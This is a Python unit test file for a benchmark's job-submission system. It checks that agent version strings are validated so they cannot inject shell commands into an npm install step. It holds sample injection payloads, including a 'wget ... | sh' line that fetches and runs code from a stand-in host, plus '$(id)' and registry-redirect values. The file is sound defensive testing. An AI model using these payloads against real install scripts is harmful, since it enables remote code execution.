"""An agent `version` is a plain version, at submit and on the worker (one rule: `core.agent_kwargs`).

Pier's installed agents put it unquoted into their install script
(`npm install -g @openai/codex@<version>` inside `bash -c`), which the online
agent-install build runs with the network: `0.1; wget ...|sh; true` would run there.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from sciencebench.core.agent_kwargs import agent_kwarg_problem
from sciencebench.core.errors import ProfileError, RefusedError
from sciencebench.core.paths import JobPaths
from sciencebench.core.settings import Settings
from sciencebench.login.options import SubmitOptions
from sciencebench.login.profiles import plan_agent
from sciencebench.login.runrecord import build_run_record
from sciencebench.login.submit import persist
from sciencebench.worker.admission import admit
from tests.fixtures.hosts import prepare
from tests.fixtures.selection import make_selection

pytestmark = pytest.mark.unit

INJECTED = "0.1; wget -qO- http://exfil.invalid/x | sh; true"
BAD = [INJECTED, "", "1.0 --registry=http://exfil.invalid", "$(id)", "`id`", "1\n2", "-g", "a" * 65, '"1.0"']
GOOD = ["latest", "0.46.0", "1.2.3-beta.1", "1.0+build_7", "2"]


@pytest.mark.parametrize("value", BAD)
def test_a_version_that_is_not_plain_is_refused(value: str) -> None:
    assert agent_kwarg_problem("version", value) is not None


@pytest.mark.parametrize("value", GOOD)
def test_a_plain_version_passes(value: str) -> None:
    assert agent_kwarg_problem("version", value) is None


def _plan(**kw: object) -> object:
    args: dict[str, object] = {
        "agent": "codex", "env_values": {"OPENAI_API_KEY": "k"}, "models": [], "agent_kwargs": {},
        "agent_env": {}, "agent_import_path": None, "auto_provider": True, "auto_agent_adapter": True,
        "dry_run": False,
    }  # fmt: skip
    return plan_agent(**(args | kw))  # type: ignore[arg-type]


def test_submit_refuses_an_injected_version_kwarg_in_one_line() -> None:
    with pytest.raises(ProfileError) as refused:
        _plan(agent="claude-code", env_values={}, agent_kwargs={"version": INJECTED})
    assert str(refused.value).startswith("--agent-kwarg version (CODEX_VERSION): not a plain version")
    assert "\n" not in str(refused.value) and INJECTED not in str(refused.value)


def test_submit_refuses_an_injected_codex_version_from_the_env_file() -> None:
    with pytest.raises(ProfileError, match=r"^--agent-kwarg version \(CODEX_VERSION\): not a plain version"):
        _plan(env_values={"OPENAI_API_KEY": "k", "CODEX_VERSION": INJECTED})


def test_a_plain_codex_version_from_the_env_file_travels() -> None:
    plan = _plan(env_values={"OPENAI_API_KEY": "k", "CODEX_VERSION": "0.46.0"})
    assert plan.agent_kwargs["version"] == "0.46.0"  # type: ignore[attr-defined]


def test_the_worker_refuses_a_job_whose_version_was_rewritten(tmp_path: Path) -> None:
    """The job's owner can rewrite job.json after submit; admission applies the same rule."""
    selection = make_selection(tmp_path / "sel", ["002"])
    opts = SubmitOptions(
        path=selection, jobs_dir=tmp_path / "jobs", job_name="ver", agent="claude-code",
        agent_kwargs=["version=1.0.0"],
    )  # fmt: skip
    prepared = prepare(opts)
    done = persist(prepared, build_run_record(prepared.job, prepared.trials[0], "redis://x", []))
    settings = Settings(jobs_roots=(tmp_path / "jobs",), selection_roots=(selection,))
    admit(done.trials[0], settings)  # the job as submitted is admitted
    job_json = JobPaths(done.job.jobs_dir, done.job.job_name).job_spec
    data = json.loads(job_json.read_text())
    assert data["agent"]["agent_kwargs"]["version"] == "1.0.0"
    data["agent"]["agent_kwargs"]["version"] = INJECTED
    job_json.write_text(json.dumps(data))
    with pytest.raises(RefusedError, match=r"^--agent-kwarg version \(CODEX_VERSION\): not a plain version"):
        admit(done.trials[0], settings)
